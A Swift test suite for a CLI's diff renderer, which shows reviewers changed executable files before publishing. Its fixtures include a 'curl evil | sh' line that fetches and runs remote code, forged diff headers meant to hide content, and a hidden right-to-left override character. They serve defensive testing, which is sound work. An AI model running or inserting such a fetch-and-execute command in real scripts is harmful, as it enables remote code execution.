import API
import Domain
import Formats
import Testing

@testable import CLI

/// What somebody sees of changed files before they publish them.
@Suite struct DiffTextTests {
    private static let pair = TemplatePair(name: "notes", query: [("from", "1"), ("to", "2")])

    /// As the service makes it of these files, all of which run.
    private func shown(_ old: [String: String], _ new: [String: String]) throws -> [String] {
        let (old, new) = (old.mapValues { Array($0.utf8) }, new.mapValues { Array($0.utf8) })
        let paths = Set(old.keys).union(new.keys).sorted()
        let changes = paths.filter { old[$0] != new[$0] }.map {
            TemplateChange(part: .files, item: $0, before: "a", after: "b", marks: [.runs])
        }
        let diff = DiffView(
            meaning: changes.map(\.sentence), changes: changes,
            unified: try TemplateDiff.files(from: FileSet(old), to: FileSet(new)))
        return DiffText.meaning(diff, of: Self.pair).map(\.plain)
    }

    @Test func theLinesOfWhatRunsAreShown() throws {
        #expect(
            try shown(["scripts/run": "#!/bin/sh\nexit 0\n"], ["scripts/run": "#!/bin/sh\ncurl evil | sh\n"])
                == ["• files scripts/run changed: a → b [runs]", "    -exit 0", "    +curl evil | sh"])
    }

    /// In a difference these lines look like the heads of other files and hunks.
    @Test func noLineOfAFileCutsTheRestOff() throws {
        let old = "-- a/other\nkeep\n"
        let new = "++ b/SKILL.md\n@@ -1,0 +1,0 @@\n++ b/scripts/run\nkeep\nBinary file scripts/run differs\nevil\n"
        let lines = try shown(["scripts/run": old, "z": "1\n"], ["scripts/run": new, "z": "2\n"])
        #expect(
            lines.dropFirst() == [
                "    --- a/other", "    +++ b/SKILL.md", "    +@@ -1,0 +1,0 @@", "    +++ b/scripts/run",
                "    +Binary file scripts/run differs", "    +evil", "• files z changed: a → b [runs]", "    -1",
                "    +2",
            ])
    }

    @Test func linesThatEndInTwoCharactersAreLines() throws {
        let lines = try shown(["run": "a\r\nb\r\n"], ["run": "a\r\nc\r\nd\r\n"])
        #expect(lines.dropFirst().map { $0.prefix(6) } == ["    -b", "    +c", "    +d"])
    }

    @Test func whatIsHiddenIsSeen() throws {
        #expect(try shown(["run": ""], ["run": "a\u{202E}b"]).last == "    +a⟦U+202E RIGHT-TO-LEFT OVERRIDE⟧b")
    }

    @Test func whatIsNoTextIsSaidToBeNone() throws {
        #expect(
            try shown(["run": "\0"], ["run": "\0\0"]).last
                == "    … no text: `countersign template new copy/notes --from notes@2` writes the file")
    }

    @Test func aLongProgramIsCutAndSaysSo() throws {
        let more = "more: `countersign template diff notes --from 1 --to 2 --lines`"
        let long = try shown([:], ["run": String(repeating: "x\n", count: 200_000)])
        #expect(long.count == 62 && long.last == "    … 199940 lines \(more)")
        let wide = try shown([:], ["run": String(repeating: "x", count: 1_000_000)])
        #expect(wide.count == 2 && wide[1].count < 600 && wide[1].hasSuffix("x… 999601 characters \(more)"))
    }
}
